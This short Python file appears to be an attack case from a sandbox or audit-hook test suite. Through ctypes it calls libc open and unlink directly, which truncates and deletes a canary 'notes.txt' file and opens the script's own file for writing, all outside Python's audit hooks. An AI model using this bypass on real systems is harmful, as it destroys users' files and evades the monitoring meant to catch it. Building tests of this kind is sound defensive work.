"""Opens and unlinks files of the user by the C library, past Python's own functions and audit hooks."""
import ctypes
import os


def attack(args, emit):
    libc = ctypes.CDLL(None, use_errno=True)
    victim = os.fsencode(os.path.join(args["canary"], "notes.txt"))
    done = []
    if libc.open(victim, os.O_WRONLY | os.O_TRUNC) >= 0:
        done.append("open")
    if libc.unlink(victim) == 0:
        done.append("unlink")
    if libc.open(os.fsencode(__file__), os.O_WRONLY) >= 0:
        done.append("project")
    return done
